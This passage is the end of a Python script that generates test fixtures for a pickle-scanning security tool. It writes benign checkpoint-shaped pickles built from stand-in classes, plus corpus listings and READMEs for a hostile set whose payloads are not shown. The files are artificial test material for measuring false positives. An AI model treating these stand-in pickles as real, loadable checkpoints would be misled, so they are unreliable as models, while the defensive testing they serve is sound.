    add("sklearn_like.pkl", "a scikit-learn-style estimator with numpy arrays (pickle.dump)",
        lambda p: p.write_bytes(dumps(scaler)))
    add("protocol4_state_dict.pt", "state dict written with pickle protocol 4 (FRAME, STACK_GLOBAL, MEMOIZE)",
        lambda p: torch_zip(p, {"state_dict": state_dict(SMALL_SD), "step": 3}, protocol=4))
    add("builtins_values.pkl", "frozenset, slice, range, complex, bytearray, set, Ellipsis values",
        lambda p: p.write_bytes(dumps({"classes": frozenset({1, 2}), "window": slice(0, 10, 2), "r": range(5),
                                        "c": complex(1, 2), "ba": bytearray(b"xy"), "s": {3}, "e": Ellipsis})))
    coll = {"od": OrderedDict(a=1), "dq": collections.deque([1, 2]), "ct": collections.Counter("aab"),
            "dd": collections.defaultdict(list, {"k": [1]})}
    add("collections_values.pkl", "OrderedDict, deque, Counter and defaultdict(list) values",
        lambda p: p.write_bytes(dumps(coll)))
    net = Ref("__main__", "Net").new(state={"training": False, "_parameters": OrderedDict(weight=parameter(2, 2)),
                                            "_buffers": OrderedDict(), "_modules": OrderedDict()})
    add("whole_model_main_class.pt", "torch.save(model) of a class defined in the training script (__main__.Net)",
        lambda p: torch_zip(p, net))
    add("ema_amp_checkpoint.pt", "model, EMA model and AMP GradScaler state",
        lambda p: torch_zip(p, {"model": state_dict(SMALL_SD), "model_ema": state_dict(SMALL_SD),
                                "scaler": {"scale": 65536.0, "growth_factor": 2.0, "backoff_factor": 0.5,
                                           "growth_interval": 2000, "_growth_tracker": 0}}))
    return out


def write_table(folder, header, rows):
    lines = header + ["", "| file | source | what it is |", "|---|---|---|"]
    lines += [f"| `{n}` | {s} | {w} |" for n, s, w in rows]
    return lines


def main():
    HOSTILE.mkdir(parents=True, exist_ok=True)
    BENIGN.mkdir(parents=True, exist_ok=True)
    for p in HOSTILE.glob("scan_*"):
        p.unlink()
    for p in BENIGN.iterdir():
        p.unlink()
    tsv = ["file\tsource\twhat"]
    rows = []
    for name, source, what, data in hostile_files():
        path = HOSTILE / name
        if callable(data):
            data(path)
        else:
            path.write_bytes(data)
        tsv.append(f"{name}\t{source}\t{what}")
        rows.append((name, source, what))
    (HOSTILE / "corpus.tsv").write_text("\n".join(tsv) + "\n")
    # hostile/README.md: replace this script's rows, keep make_fixtures.py's.
    readme = HOSTILE / "README.md"
    kept = [r for r in readme.read_text().splitlines() if not r.startswith("| `scan_")]
    while kept and kept[-1] == "":
        kept.pop()
    kept += [f"| `{n}` | scan corpus ({s}): {w} |" for n, s, w in rows]
    readme.write_text("\n".join(kept) + "\n")
    btsv = ["file\twhat"]
    brows = []
    for name, what, writer in benign_files():
        writer(BENIGN / name)
        btsv.append(f"{name}\t{what}")
        brows.append((name, what))
    (BENIGN / "corpus.tsv").write_text("\n".join(btsv) + "\n")
    lines = [
        "# benign/", "",
        "Checkpoint-shaped pickles that `ptinspect scan` must pass (exit 0), made by `scripts/make_scan_corpus.py`",
        "with Python's standard library only: torch, numpy, torchvision, timm, Lightning, transformers and",
        "scikit-learn are not installed here, so their classes and functions are written from stand-ins whose",
        "module and qualified name match the real ones (`torch.nn.modules.normalization.LayerNorm`,",
        "`torch._utils._rebuild_tensor_v2`, `numpy.core.multiarray._reconstruct`, ...), laid out the way",
        "`torch.save` (protocol 2, zip container, storages as persistent ids) and `pickle.dump` lay them out.",
        "They are not loadable by torch (the tensors' storages are zeros and the module states are abridged);",
        "they exist to measure false positives. `corpus.tsv` lists them for the tests and `scripts/bench-scan`.",
        "", "| file | what it is |", "|---|---|",
    ] + [f"| `{n}` | {w} |" for n, w in brows]
    (BENIGN / "README.md").write_text("\n".join(lines) + "\n")
    print(f"wrote {len(rows)} hostile and {len(brows)} benign files", file=sys.stderr)


if __name__ == "__main__":
    main()
